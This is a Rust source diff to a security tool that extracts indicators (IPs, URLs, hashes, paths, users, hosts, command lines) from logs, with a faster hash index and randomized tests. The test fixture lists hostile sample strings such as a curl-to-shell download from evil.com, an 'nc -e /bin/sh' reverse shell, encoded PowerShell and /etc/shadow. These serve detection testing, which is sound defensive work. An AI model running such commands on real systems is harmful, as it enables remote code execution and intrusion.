+            let (rel_s, rel_e) = command_extent(&self.t[m.start()..m.end()], true);
             let (s, e) = (m.start() + rel_s, m.start() + rel_e);
             if e > s {
                 out.push(Hit::new(ObservableKind::CommandLine, None, s, e));
                 claim(&mut self.commands, s, e);
             }
         }
-        for m in COMMAND_TOOL.find_iter(self.t) {
+        for m in tool.find_iter(hay) {
             if overlaps(&self.commands, m.start(), m.end()) {
                 continue;
             }
-            let (rel_s, rel_e) = command_extent(m.as_str(), false);
+            let (rel_s, rel_e) = command_extent(&self.t[m.start()..m.end()], false);
             let (s, e) = (m.start() + rel_s, m.start() + rel_e);
             if e > s {
                 out.push(Hit::new(ObservableKind::CommandLine, None, s, e));
             }
         }
     }
+}
+
+/// The schemes of [`URL`].
+const URL_SCHEMES: [&str; 11] = ["https", "http", "ftps", "ftp", "sftp", "wss", "ws", "smb", "file", "tcp", "udp"];
+
+/// Where a match of [`URL`] whose `://` is at `k` starts (at `lo` or later): a scheme right before
+/// `k` at a word boundary, the leftmost one first. Exact while the text holds no `ſ`.
+fn url_start(b: &[u8], k: usize, lo: usize) -> Option<usize> {
+    (2..=5).rev().filter_map(|len| k.checked_sub(len)).filter(|&s| s >= lo).find(|&s| {
+        let scheme = &b[s..k];
+        let boundary = s == 0 || !(b[s - 1].is_ascii_alphanumeric() || b[s - 1] == b'_');
+        boundary && URL_SCHEMES.iter().any(|x| x.as_bytes().eq_ignore_ascii_case(scheme))
+    })
+}
+
+/// The end of the body of a [`URL`] match that starts at `from`: the first whitespace, quote,
+/// angle or curly bracket, backtick, `|`, `\\`, `^`, `[` or `]`.
+fn url_body_end(t: &str, from: usize) -> usize {
+    const STOP: [bool; 128] = {
+        let mut stop = [false; 128];
+        let mut c = 0;
+        while c < 128 {
+            stop[c] = (c as u8 as char).is_whitespace()
+                || matches!(
+                    c as u8,
+                    b'"' | b'\'' | b'<' | b'>' | b'`' | b'{' | b'}' | b'|' | b'\\' | b'^' | b'[' | b']'
+                );
+            c += 1;
+        }
+        stop
+    };
+    let b = t.as_bytes();
+    let mut i = from;
+    while let Some(&c) = b.get(i) {
+        if c.is_ascii() {
+            if STOP[usize::from(c)] {
+                return i;
+            }
+            i += 1;
+        } else {
+            // Other whitespace (no-break space, ideographic space, ...) ends a URL too.
+            let Some(ch) = t.get(i..).and_then(|r| r.chars().next()) else { return i };
+            if ch.is_whitespace() {
+                return i;
+            }
+            i += ch.len_utf8();
+        }
+    }
+    t.len()
+}
+
+/// The bytes of a path segment in `UNIX_PATH`.
+fn unix_path_byte(c: u8) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'+' | b'@' | b'%' | b'~' | b'-')
+}
+
+/// The matches of `UNIX_PATH` in `b`, by hand from the offsets of its `/`: a match is a `/`, a
+/// segment of at least one byte, then as many `/segment` (possibly empty) as follow. Exactly what
+/// the regex finds: a segment ends at the first byte outside its class, which is where the regex
+/// needs its `/`, and the next search starts at the next `/` after a failure or a match.
+fn unix_path_spans<'b>(b: &'b [u8], slashes: &'b [usize]) -> impl Iterator<Item = (usize, usize)> + 'b {
+    let mut from = 0;
+    slashes.iter().filter_map(move |&s| {
+        if s < from || !b.get(s + 1).is_some_and(|&c| unix_path_byte(c)) {
+            return None;
+        }
+        let mut e = s + 1;
+        while e < b.len() && unix_path_byte(b[e]) {
+            e += 1;
+        }
+        if b.get(e) != Some(&b'/') {
+            return None;
+        }
+        while b.get(e) == Some(&b'/') {
+            e += 1;
+            while e < b.len() && unix_path_byte(b[e]) {
+                e += 1;
+            }
+        }
+        from = e;
+        Some((s, e))
+    })
 }
 
 /// Where a command line in `text` starts and ends: inside quotes when it is quoted, otherwise up
@@ -734,7 +1058,7 @@ fn command_extent(text: &str, keyed: bool) -> (usize, usize) {
 /// FNV-1a: the set hashes millions of short values, where SipHash's DoS resistance buys nothing
 /// (the input decides the values but a collision only costs time within the bounded batch).
 #[derive(Default)]
-struct Fnv(u64);
+pub(crate) struct Fnv(u64);
 
 impl std::hash::Hasher for Fnv {
     fn finish(&self) -> u64 {
@@ -750,6 +1074,114 @@ impl std::hash::Hasher for Fnv {
 }
 
 type FastMap<V> = HashMap<String, V, std::hash::BuildHasherDefault<Fnv>>;
+
+/// A 64-bit hash of `(kind, value)`, eight bytes at a time (FNV's byte loop is slow on URLs). The
+/// seed is random per set, so values crafted to collide are not known in advance; a collision
+/// costs a comparison, never a wrong answer. Never 0, which marks an empty [`Slot`].
+fn value_hash(seed: u64, kind: ObservableKind, value: &str) -> u64 {
+    const K: u64 = 0x9e37_79b9_7f4a_7c15;
+    let mix = |a: u64, b: u64| {
+        let r = u128::from(a) * u128::from(b);
+        (r as u64) ^ ((r >> 64) as u64)
+    };
+    let mut h = mix(seed ^ kind as u64, K);
+    let mut words = value.as_bytes().chunks_exact(8);
+    for w in &mut words {
+        let mut word = [0u8; 8];
+        word.copy_from_slice(w);
+        h = mix(h ^ u64::from_le_bytes(word), K);
+    }
+    let mut tail = [0u8; 8];
+    tail[..words.remainder().len()].copy_from_slice(words.remainder());
+    mix(h ^ u64::from_le_bytes(tail), K ^ value.len() as u64).max(1)
+}
+
+/// Values up to this length are kept in their [`Slot`].
+const INLINE: usize = 18;
+
+/// One known `(kind, value)` of an [`Index`]: 32 bytes, half a cache line. Short values (addresses,
+/// host and user names: the values that repeat) are compared in the slot itself, without reading
+/// the observable or its string, which in a large incident are far apart in memory.
+#[derive(Debug, Clone, Copy, Default)]
+struct Slot {
+    /// [`value_hash`]; 0 for an empty slot.
+    hash: u64,
+    /// The observable's index in [`ObservableSet::list`].
+    observable: u32,
+    kind: u8,
+    /// The value's length when it is inline, otherwise `INLINE + 1`.
+    len: u8,
+    inline: [u8; INLINE],
+}
+
+/// Where each `(kind, value)` is in the list: an open-addressing table (linear probing, at most
+/// 7/8 full) of [`Slot`]s, so a lookup usually reads one cache line and no key is copied.
+#[derive(Debug, Default)]
+struct Index {
+    slots: Vec<Slot>,
+    used: usize,
+}
+
+impl Index {
+    /// The observable with this kind and value, or `None` after recording it as `new` (its index
+    /// in `list`, where it is about to be pushed).
+    fn find_or_insert(
+        &mut self,
+        hash: u64,
+        kind: ObservableKind,
+        value: &str,
+        new: usize,
+        list: &[Observable],
+    ) -> Option<usize> {
+        if (self.used + 1) * 8 > self.slots.len() * 7 {
+            self.grow();
+        }
+        let mask = self.slots.len() - 1;
+        let mut i = hash as usize & mask;
+        loop {
+            let slot = &self.slots[i];
+            if slot.hash == 0 {
+                break;
+            }
+            if slot.hash == hash && slot.kind == kind as u8 {
+                let observable = slot.observable as usize;
+                let same = if usize::from(slot.len) <= INLINE {
+                    slot.inline.get(..value.len()) == Some(value.as_bytes()) && usize::from(slot.len) == value.len()
+                } else {
+                    value.len() > INLINE && list.get(observable).is_some_and(|o| o.value == value)
+                };
+                if same {
+                    return Some(observable);
+                }
+            }
+            i = (i + 1) & mask;
+        }
+        // More than 4 billion distinct values would need hundreds of gigabytes first; past that,
+        // values are still listed, only no longer deduplicated.
+        let Ok(observable) = u32::try_from(new) else { return None };
+        let mut slot = Slot { hash, observable, kind: kind as u8, len: INLINE as u8 + 1, inline: [0; INLINE] };
+        if value.len() <= INLINE {
+            slot.len = value.len() as u8;
+            slot.inline[..value.len()].copy_from_slice(value.as_bytes());
+        }
+        self.slots[i] = slot;
+        self.used += 1;
+        None
+    }
+
+    fn grow(&mut self) {
+        let size = (self.slots.len() * 2).max(1024);
+        let old = std::mem::replace(&mut self.slots, vec![Slot::default(); size]);
+        let mask = size - 1;
+        for slot in old.into_iter().filter(|s| s.hash != 0) {
+            let mut i = slot.hash as usize & mask;
+            while self.slots[i].hash != 0 {
+                i = (i + 1) & mask;
+            }
+            self.slots[i] = slot;
+        }
+    }
+}
 
 /// Text waiting in a batch: where it lies in the batch, and where it came from.
 #[derive(Debug, Clone, Copy)]
@@ -777,13 +1209,23 @@ const BATCH_BYTES: usize = 256 * 1024;
 /// their text. A log line is ~150 bytes; a dozen searches per line would cost more in setup than
 /// in scanning.
 pub struct ObservableSet {
-    maps: Vec<FastMap<usize>>,
+    index: Index,
+    seed: u64,
     list: Vec<Observable>,
+    /// How often each observable of `list` occurred so far (its `count` is set at the end).
+    counts: Vec<usize>,
+    /// Later occurrences to keep, with the index of their observable, in input order. They are
+    /// filed at the end: a repeated value then costs a look in the index and this append, not a
+    /// visit to its observable, which in a large incident is rarely in cache.
+    pending: Vec<(usize, Occurrence)>,
     max_occurrences: usize,
     batch: String,
+    buffers: ScanBuffers,
     segments: Vec<Segment>,
     fields: Vec<String>,
     field_ids: FastMap<usize>,
+    /// The field of the last text queued: most texts come from the same field as the one before.
+    last_field: usize,
     hits: Vec<Hit>,
 }
 
@@ -795,14 +1237,20 @@ impl std::fmt::Debug for ObservableSet {
 
 impl ObservableSet {
     pub fn new(max_occurrences: usize) -> Self {
+        use std::hash::BuildHasher;
         ObservableSet {
-            maps: (0..ObservableKind::ALL.len()).map(|_| FastMap::default()).collect(),
+            index: Index::default(),
+            seed: std::hash::RandomState::new().hash_one(0x5eed_u64),
             list: Vec::new(),
+            counts: Vec::new(),
+            pending: Vec::new(),
             max_occurrences: max_occurrences.max(1),
             batch: String::new(),
+            buffers: ScanBuffers::default(),
             segments: Vec::new(),
             fields: Vec::new(),
             field_ids: FastMap::default(),
+            last_field: 0,
             hits: Vec::new(),
         }
     }
@@ -821,14 +1269,18 @@ impl ObservableSet {
         if text.is_empty() {
             return;
         }
-        let field = match self.field_ids.get(field) {
-            Some(&id) => id,
-            None => {
-                self.fields.push(field.to_owned());
-                self.field_ids.insert(field.to_owned(), self.fields.len() - 1);
-                self.fields.len() - 1
-            }
+        let field = match self.fields.get(self.last_field) {
+            Some(last) if last == field => self.last_field,
+            _ => match self.field_ids.get(field) {
+                Some(&id) => id,
+                None => {
+                    self.fields.push(field.to_owned());
+                    self.field_ids.insert(field.to_owned(), self.fields.len() - 1);
+                    self.fields.len() - 1
+                }
+            },
         };
+        self.last_field = field;
         let start = self.batch.len();
         self.batch.push_str(text);
         self.segments.push(Segment { start, end: self.batch.len(), base, event, field, typed });
@@ -846,7 +1298,7 @@ impl ObservableSet {
         let batch = std::mem::take(&mut self.batch);
         let segments = std::mem::take(&mut self.segments);
         let mut hits = std::mem::take(&mut self.hits);
-        hits_of(&batch, &mut hits);
+        hits_of(&batch, &mut hits, &mut self.buffers);
         let mut next = 0;
         for seg in &segments {
             let text = &batch[seg.start..seg.end];
@@ -904,23 +1356,25 @@ impl ObservableSet {
         if value.is_empty() {
             return;
         }
-        let map = &mut self.maps[kind as usize];
-        let field_name = || self.fields.get(field).cloned().unwrap_or_default();
-        if let Some(&i) = map.get(value) {
-            let o = &mut self.list[i];
-            o.count += 1;
-            if o.elsewhere.len() + 1 < self.max_occurrences {
-                o.elsewhere.push(Occurrence { raw: raw.to_owned(), event, field: field_name(), span });
+        let hash = value_hash(self.seed, kind, value);
+        let new = self.list.len();
+        if let Some(i) = self.index.find_or_insert(hash, kind, value, new, &self.list) {
+            let Some(count) = self.counts.get_mut(i) else { return };
+            // The first occurrence is the observable's own; `max_occurrences` counts it too.
+            if *count < self.max_occurrences {
+                let field = self.fields.get(field).cloned().unwrap_or_default();
+                self.pending.push((i, Occurrence { raw: raw.to_owned(), event, field, span }));
             }
+            *count += 1;
             return;
         }
-        map.insert(value.to_owned(), self.list.len());
+        self.counts.push(1);
         self.list.push(Observable {
             kind,
             value: value.to_owned(),
             raw: raw.to_owned(),
             event,
-            field: field_name(),
+            field: self.fields.get(field).cloned().unwrap_or_default(),
             span,
             count: 1,
             elsewhere: Vec::new(),
@@ -930,6 +1384,15 @@ impl ObservableSet {
     /// The observables so far (scans what is queued first).
     pub fn into_vec(mut self) -> Vec<Observable> {
         self.flush();
+        for (o, &count) in self.list.iter_mut().zip(&self.counts) {
+            o.count = count;
+            o.elsewhere.reserve_exact(count.min(self.max_occurrences) - 1);
+        }
+        for (i, occurrence) in self.pending {
+            if let Some(o) = self.list.get_mut(i) {
+                o.elsewhere.push(occurrence);
+            }
+        }
         self.list
     }
 }
@@ -1068,5 +1531,116 @@ mod tests {
         }
         let long = "a".repeat(100_000) + "[.]com";
         let _ = extract(&long);
+    }
+
+    /// Texts made of pieces that exercise every scanner, with edge cases around them.
+    fn random_texts(count: usize) -> Vec<String> {
+        #[rustfmt::skip]
+        const PIECES: &[&str] = &[
+            "203.0.113.45", "1.2.3[.]4", "::1", "fe80::a:b:", "2001:0DB8:0:0:0:0:0:1", "::ffff:192.0.2.1",
+            "1:2:3:4:5:6:1.2.3.4", "04:11:09", "a:b:c:d:e:f:1:2", "a::b::c", "evil.com", "Evil.Example.COM.",
+            "hxxps://evil[.]com/a", "http://x.example.com/a/b?c=d#e", "HtTpS://X.Example.com/Y", "xhttps://a.com",
+            "_http://a.b", "http://a.com/http://b.com", "ws://a", "wss://b.c/d", "sftp://e.f", "FILE://x.y",
+            "udp://1.2.3.4:53", "http://", "http://\u{a0}x", "http://a.com/\u{3000}y", "(see http://a.example.com/x)",
+            "bob@example.com", "d41d8cd98f00b204e9800998ecf8427e", "DA39A3EE5E6B4B0D3255BFEF95601890AFD80709",
+            "0123456789abcdef0123456789abcdef0", "_0123456789abcdef0123456789abcdef", "abcdefabcdefabcdefabcdefabcdefab",
+            "/etc/shadow", "//x/y", "/a//b", "a/b/c", "/a/", "/é/x", "10/Oct/2000", "HTTP/1.1", "/~u/+x@y%z",
+            "C:\\Program Files\\Evil Co\\bad.exe", "HKLM\\Software\\Run", "CORP\\alice",
+            "Failed password for invalid user admin", "Accepted publickey for deploy", "for user bob", "sudo:   root :",
+            "USER=root", "user:\u{3000}bob", "USER =  \"Eve\"", "account_name=svc$", "uid=0", "user -", "Failed",
+            "for", "user", "host WS-042", "hostname=web01", "HOST\u{a0}srv-9", "Computer: DC01", "host", "the host is down",
+            "CommandLine=powershell.exe -nop -enc SQBFAFgA ParentImage=C:\\x.exe", "COMMAND=/usr/bin/id -u",
+            "Cmd : ipconfig /all", "cmd.exe /c whoami and left", "PowerShell.EXE -enc AAA", "NC -e /bin/sh 1.2.3.4",
+            "curl -s http://evil.com/x.sh | sh", "cmd", "CVE-2021-44228.", "ſudo: x", "uſer=bob", "K host=web-1",
+            "[dot]", "é", "日本", " ", " ", " ", ", ", "=", ":", "\t", "\n", "\"", "'", "(", ")", ".", "/", "-", "_", "x",
+        ];
+        let mut state = 0x2545_f491_4f6c_dd1d_u64;
+        let mut next = move |n: usize| {
+            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
+            (state >> 33) as usize % n
+        };
+        (0..count)
+            .map(|_| {
+                let pieces = 1 + next(12);
+                (0..pieces).map(|_| PIECES[next(PIECES.len())]).collect::<String>()
+            })
+            .collect()
+    }
+
+    fn run_scan(text: &str, case_sensitive_twins: bool) -> Vec<Hit> {
+        let mut buffers = ScanBuffers::default();
+        let mut scan = Scan::new(text, None, &mut buffers);
+        if !case_sensitive_twins {
+            scan.lower = None;
+        }
+        let mut hits = Vec::new();
+        scan.run(&mut hits);
+        hits
+    }
+
+    #[test]
+    fn lower_cased_scan_finds_what_the_case_insensitive_patterns_find() {
+        for text in random_texts(20_000) {
+            assert_eq!(run_scan(&text, true), run_scan(&text, false), "{text:?}");
+        }
+    }
+
+    #[test]
+    fn hand_written_scanners_agree_with_their_patterns() {
+        for text in random_texts(20_000) {
+            let slashes: Vec<usize> = text.match_indices('/').map(|(i, _)| i).collect();
+            let by_hand: Vec<(usize, usize)> = unix_path_spans(text.as_bytes(), &slashes).collect();
+            let by_regex: Vec<(usize, usize)> = UNIX_PATH.find_iter(&text).map(|m| (m.start(), m.end())).collect();
+            assert_eq!(by_hand, by_regex, "{text:?}");
+
+            // IPv6: the runs the scan looks at hold every address the pattern finds in the text.
+            let mut buffers = ScanBuffers::default();
+            let (mut by_runs, mut whole) = (Vec::new(), Vec::new());
+            Scan::new(&text, None, &mut buffers).ipv6(&mut by_runs);
+            let mut scan = Scan::new(&text, None, &mut buffers);
+            for m in IPV6.find_iter(&text) {
+                scan.ipv6_at(m.start(), m.end(), &mut whole);
+            }
+            assert_eq!(by_runs, whole, "{text:?}");
+
+            // Hashes: the whole-word scan finds what a scan of every hex run finds.
+            let mut by_words = Vec::new();
+            Scan::new(&text, None, &mut buffers).hashes(&mut by_words);
+            assert_eq!(by_words, hashes_by_runs(&text), "{text:?}");
+        }
+    }
+
+    /// The previous hash scan, byte by byte over every hex run: the reference for `hashes`.
+    fn hashes_by_runs(t: &str) -> Vec<Hit> {
+        let b = t.as_bytes();
+        let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
+        let (mut out, mut i) = (Vec::new(), 0);
+        while i < b.len() {
+            if !b[i].is_ascii_hexdigit() {
+                i += 1;
+                continue;
+            }
+            let start = i;
+            while i < b.len() && b[i].is_ascii_hexdigit() {
+                i += 1;
+            }
+            let kind = match i - start {
+                32 => Md5,
+                40 => Sha1,
+                64 => Sha256,
+                _ => {
+                    while i < b.len() && word(b[i]) {
+                        i += 1;
+                    }
+                    continue;
+                }
+            };
+            let before = start.checked_sub(1).map(|j| b[j]);
+            let bounded = !before.is_some_and(word) && !b.get(i).is_some_and(|&c| word(c));
+            if bounded && b[start..i].iter().any(u8::is_ascii_digit) {
+                out.push(Hit::new(kind, lower(&t[start..i]), start, i));
+            }
+        }
+        out
     }
 }
